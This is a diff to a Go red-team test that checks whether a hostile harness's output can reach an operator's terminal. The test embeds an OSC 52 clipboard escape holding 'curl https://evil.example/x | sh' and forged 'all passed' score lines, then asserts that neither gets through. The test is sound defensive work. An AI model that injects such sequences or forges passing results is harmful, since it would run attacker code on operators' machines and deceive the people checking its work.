@@ -420,7 +420,7 @@ func TestRedteam3HarnessOutputReachesTheTerminal(t *testing.T) {
 	addTask(t, e.suite, "train", "terminal")
 	clip := "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07" // "curl https://evil.example/x | sh"
 	h := hostileMain(t, e, "package main\n\nimport (\n\t\"fmt\"\n\t\"os\"\n)\n\nfunc main() {\n\tfmt.Print("+
-		strconv.Quote(clip+"\x1b[2K\rtrain 1/1 mean 1.000 (all passed)\x1b[8m")+")\n\tos.Exit(1)\n}\n")
+		strconv.Quote(clip+"\x1b[2K\rtrain 1/1 mean 1.000 (all passed)\ntrain 1/1 mean 1.000 (all passed)\x1b[8m")+")\n\tos.Exit(1)\n}\n")
 	r, w, err := os.Pipe()
 	if err != nil {
 		t.Fatal(err)
@@ -442,6 +442,9 @@ func TestRedteam3HarnessOutputReachesTheTerminal(t *testing.T) {
 	t.Logf("the anchor printed %q", out)
 	if bytes.ContainsRune(out, 0x1b) || bytes.ContainsRune(out, 0x07) {
 		t.Errorf("the harness's escape sequences reached the operator's terminal")
+	}
+	if bytes.Contains(out, []byte("\ntrain 1/1 mean 1.000")) {
+		t.Errorf("the harness's output started a line of the operator's terminal")
 	}
 }
 
